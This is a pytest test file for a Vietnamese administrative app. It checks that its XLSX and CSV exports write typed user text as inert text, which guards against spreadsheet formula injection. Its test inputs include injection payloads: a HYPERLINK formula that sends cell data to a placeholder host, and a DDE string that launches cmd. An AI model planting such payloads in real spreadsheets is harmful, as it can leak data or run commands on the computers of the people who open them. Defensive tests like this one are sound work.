"""Spreadsheet and CSV injection (issue 16, point 7): text users type comes out of every export as
text, never as a formula a spreadsheet would run.

XLSX: read back with openpyxl, each such cell is a text cell (data type 's') holding what was typed.
CSV: each such cell starts with an apostrophe, which spreadsheets read as "this is text"; plain
numbers (a negative figure) are left as numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from dieuhanh.sheets import FORMULA_START, append_row, csv_cell
from dieuhanh.tracing.exports import list_csv, list_xlsx
from dieuhanh.tracing.present import LIST_HEADERS
from tests.factories import PERIOD, post, row

A, B = "VN-2025:26743", "VN-2025:26740"
LINK = '=HYPERLINK("http://example.invalid/?leak="&A1;"Bấm vào đây")'
TYPED = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)"]
# Some spreadsheets skip a leading tab or carriage return before looking for a formula.
TYPED_WITH_SPACE = [*TYPED, "\t=1+1", "\r=1+1"]


def cells(content: bytes) -> dict[str, tuple[str, object]]:
    """Every non-empty cell of the first sheet: value → (data type, value)."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return {str(c.value): (c.data_type, c.value) for r in sheet.iter_rows() for c in r if c.value is not None}


def assert_text(found: dict[str, tuple[str, object]], typed: str) -> None:
    assert found.get(typed) == ("s", typed), f"{typed!r} is not a text cell: {found.get(typed)}"


# The one helper


@pytest.mark.parametrize("typed", TYPED)
def test_the_helper_writes_formula_like_text_as_text(typed):
    book = Workbook()
    append_row(book.active, [typed, 12, None, "thường"])
    out = io.BytesIO()
    book.save(out)
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert (back["A1"].data_type, back["A1"].value) == ("s", typed)
    assert back["A1"].quotePrefix  # editing the cell in Excel keeps it text too
    assert (back["B1"].data_type, back["B1"].value) == ("n", 12)


@pytest.mark.parametrize("typed", TYPED_WITH_SPACE)
def test_the_helper_prefixes_formula_like_csv_cells(typed):
    assert csv_cell(typed) == "'" + typed


@pytest.mark.parametrize("plain", ["-5", "-0.25", "1e-3", "thường", "Quyết định 942/QĐ-TTg", "", 12, None])
def test_numbers_and_ordinary_text_are_written_as_they_are(plain):
    assert csv_cell(plain) == plain


def test_a_control_character_does_not_make_the_export_fail():
    book = Workbook()
    append_row(book.active, ["Báo cáo\x07 ngày 5"])
    book.save(io.BytesIO())
    assert book.active["A1"].value == "Báo cáo\ufffd ngày 5"


def test_every_formula_start_is_covered():
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}


# Each export


def test_the_task_export_writes_typed_titles_as_text(world):
    client = world.leader.client()
    for n, title in enumerate(TYPED):
        body = {"title": title, "basis": f"@Căn cứ {n}", "owner": A}
        assert client.post("/api/v1/tasks", body, content_type="application/json").status_code == 201
    found = cells(client.get("/api/v1/tasks/export.xlsx").content)
    for n, title in enumerate(TYPED):
        assert_text(found, title)
        assert_text(found, f"@Căn cứ {n}")


def test_the_status_export_writes_the_directives_text_as_text(world):
    form = [{"key": "samples", "label": "=SUM(1;2)", "type": "number"}]
    body = {
        "title": LINK,
        "number": "+15/CĐ",
        "kind": "report_request",
        "form": form,
        "targets": {"units": [A]},
    }
    response = world.leader.client().post("/api/v1/directives", body, content_type="application/json")
    assert response.status_code == 201, response.content
    sheet = world.leader.client().get(f"/api/v1/directives/{response.json()['id']}/status.xlsx")
    assert sheet.status_code == 200
    assert sheet["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    found = cells(sheet.content)
    assert_text(found, f"+15/CĐ {LINK}")
    assert_text(found, "=SUM(1;2)")


def test_the_excel_form_writes_stored_comments_as_text(world, telecom):
    stored = {**row("postal_revenue", "24500"), "comment": LINK}
    assert post(world.operator_a, stored).status_code == 200
    response = world.operator_a.client().get(
        "/api/v1/datasets/telecom/template.xlsx", {"unit": A, "period": PERIOD}
    )
    assert response.status_code == 200
    assert_text(cells(response.content), LINK)


def test_the_data_values_csv_prefixes_formula_like_comments(world, telecom):
    stored = {**row("postal_revenue", "24500"), "comment": LINK}
    assert (
        post(world.operator_a, stored, {**row("coverage", "87.5"), "comment": "@SUM(1;1)"}).status_code == 200
    )
    response = world.operator_a.client().get(
        "/api/v1/datavalues", {"dataSet": "telecom", "period": PERIOD, "orgUnit": A, "format": "csv"}
    )
    assert response.status_code == 200
    rows = {r["dataElement"]: r for r in csv.DictReader(io.StringIO(response.content.decode()))}
    assert rows["postal_revenue"]["comment"] == "'" + LINK
    assert rows["coverage"]["comment"] == "'@SUM(1;1)"
    assert rows["postal_revenue"]["value"] == "24500"


def test_the_contact_lists_write_source_text_as_text():
    row = {name: "" for name, _ in LIST_HEADERS}
    row.update(commune=A, commune_name="Phường Bến Thành", venues=LINK, generation="F1", overlap_minutes=-5)
    listed = list(csv.reader(io.StringIO(list_csv([row]).decode("utf-8-sig"))))
    venues = [label for _, label in LIST_HEADERS].index("Địa điểm tiếp xúc")
    assert listed[1][venues] == "'" + LINK
    assert listed[1][venues - 1] == "-5"  # a number stays a number
    found = cells(list_xlsx([row], title="=Danh sách"))
    assert_text(found, LINK)
    assert_text(found, "=Danh sách")
